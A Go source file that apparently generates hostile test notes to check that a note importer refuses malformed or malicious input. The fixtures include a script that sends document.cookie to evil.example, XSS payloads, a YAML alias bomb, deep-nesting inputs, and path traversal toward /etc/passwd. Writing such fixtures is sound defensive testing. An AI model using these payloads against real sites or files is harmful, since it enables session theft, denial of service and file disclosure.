package synth

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
)

// hostileKind is one way in which a note may harm who takes it in.
type hostileKind struct {
	name  string
	forms []string // in which it can be told; all where it is nil
	// spoil changes the draft before it takes its form, or the bytes after.
	spoil func(n *Notes, d *draft)
	bytes func(n *Notes, b []byte) []byte
	path  func(i int, ext string) string
}

var files = []string{FormMarkdown, FormText}

func inBody(text string) func(*Notes, *draft) {
	return func(_ *Notes, d *draft) { d.body = append(append(d.body, '\n'), text...) }
}

// after puts bytes behind the first line break in the text's second half, where no head is.
func after(what []byte) func(*Notes, []byte) []byte {
	return func(_ *Notes, b []byte) []byte {
		at := len(b)/2 + max(bytes.IndexByte(b[len(b)/2:], ' '), 0)
		return slices.Insert(b, at, what...)
	}
}

var allHostile = []hostileKind{
	{name: "script", spoil: inBody("<script>fetch('https://evil.example/' + document.cookie)</script>\n")},
	{name: "script-attribute", spoil: inBody("<img src=\"x\" onerror=\"alert(1)\">\n")},
	{name: "script-link", spoil: inBody("[more about it](javascript:alert(document.domain))\n")},
	{name: "script-head", spoil: func(_ *Notes, d *draft) { d.summary = "<script>alert(1)</script> " + d.summary }},
	{name: "nested-quotations", spoil: inBody(strings.Repeat(">", 5000) + " deep\n")},
	{name: "nested-lists", spoil: inBody(strings.Repeat("- ", 5000) + "deep\n")},
	{name: "open-brackets", spoil: inBody(strings.Repeat("[", 50_000) + "\n")},
	{name: "nested-head", forms: []string{FormMarkdown, FormJSONL}, bytes: func(n *Notes, b []byte) []byte {
		deep := []byte("deep: " + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + "\n")
		if n.opt.Form == FormJSONL {
			deep = []byte(`"deep":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000) + ",")
			return slices.Insert(b, 1, deep...)
		}
		return slices.Insert(b, len("---\n"), deep...)
	}},
	{name: "alias-bomb", forms: []string{FormMarkdown}, bytes: func(_ *Notes, b []byte) []byte {
		bomb := "a: &a [x, x, x, x, x, x, x, x, x]\n"
		for c := 'b'; c <= 'i'; c++ {
			bomb += fmt.Sprintf("%c: &%c [*%c, *%c, *%c, *%c, *%c, *%c, *%c, *%c, *%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
		}
		return slices.Insert(b, len("---\n"), []byte(bomb)...)
	}},
	{name: "long-line", spoil: func(n *Notes, d *draft) {
		d.body = append(append(d.body, '\n'), bytes.Repeat([]byte("word "), n.opt.LongLine/5)...)
	}},
	{name: "latin1", bytes: after([]byte("caf\xe9 cr\xe8me"))},
	{name: "nul", bytes: after([]byte{0})},
	{name: "utf16", forms: files, bytes: func(_ *Notes, b []byte) []byte {
		out := []byte{0xff, 0xfe}
		for _, c := range string(b) {
			if c > 0xffff {
				c = '?'
			}
			out = append(out, byte(c), byte(c>>8))
		}
		return out
	}},
	{name: "cut", forms: []string{FormMarkdown, FormJSONL}, bytes: func(n *Notes, b []byte) []byte {
		if n.opt.Form == FormJSONL {
			return append(b[:len(b)/2], '\n')
		}
		return b[:bytes.Index(b, []byte("\nflags:"))]
	}},
	{name: "name-traversal", forms: files, path: func(i int, ext string) string {
		return fmt.Sprintf("%04d/..%%2f..%%2fetc%%2fpasswd-%07d%s", i/1000, i, ext)
	}},
	{name: "id-traversal", spoil: func(_ *Notes, d *draft) { d.id = "../../../etc/" + d.id }},
	{name: "image-traversal", spoil: func(_ *Notes, d *draft) {
		d.image = [3]string{"nobody", "../../../../etc/passwd", "what lies elsewhere"}
	}},
	{name: "no-text", spoil: func(_ *Notes, d *draft) { d.body = nil }},
}

func hostileKinds(form string) []*hostileKind {
	var list []*hostileKind
	for i := range allHostile {
		if k := &allHostile[i]; k.forms == nil || slices.Contains(k.forms, form) {
			list = append(list, k)
		}
	}
	return list
}

// HostileKinds returns the names of the kinds of hostile notes in a form.
func HostileKinds(form string) []string {
	var list []string
	for _, k := range hostileKinds(form) {
		list = append(list, k.name)
	}
	return list
}

// hostile makes a note that must be refused.
func (n *Notes) hostile(d *draft, k *hostileKind, f *NoteFile, i int) {
	if k.spoil != nil {
		k.spoil(n, d)
	}
	data := n.render(d)
	if k.bytes != nil {
		data = k.bytes(n, slices.Clone(data))
	}
	if k.path != nil {
		f.Name = k.path(i, f.Name[strings.LastIndexByte(f.Name, '.'):])
	}
	f.Data = data
	if len(n.data) > 1<<20 { // an over-long line is not carried along
		n.data, n.body = nil, nil
	}
}
